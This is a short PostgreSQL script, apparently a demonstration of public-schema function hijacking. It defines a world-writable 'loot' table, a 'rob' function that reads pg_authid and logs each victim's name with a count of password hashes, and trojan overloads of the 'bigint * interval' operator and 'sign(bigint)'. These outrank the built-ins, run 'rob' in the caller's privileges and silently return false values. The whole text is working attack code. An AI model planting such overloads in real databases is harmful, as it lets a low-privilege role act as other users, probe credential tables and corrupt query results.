-- What a role can leave behind that may create things in `public`, and nothing else: matches for the operator
-- `bigint * interval` and for `sign(bigint)` that are better than the server's own, which take other types.
CREATE TABLE public.loot (victim text, hashes bigint);
GRANT INSERT ON public.loot TO PUBLIC;

CREATE FUNCTION public.rob() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO public.loot SELECT current_user, count(rolpassword) FROM pg_catalog.pg_authid;
EXCEPTION WHEN insufficient_privilege THEN
    INSERT INTO public.loot VALUES (current_user, 0);
END $$;

CREATE FUNCTION public.for_a_century(bigint, interval) RETURNS interval LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rob();
    RETURN interval '100 years';
END $$;
CREATE OPERATOR public.* (LEFTARG = bigint, RIGHTARG = interval, FUNCTION = public.for_a_century);

CREATE FUNCTION public.sign(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.rob();
    RETURN 1000;
END $$;
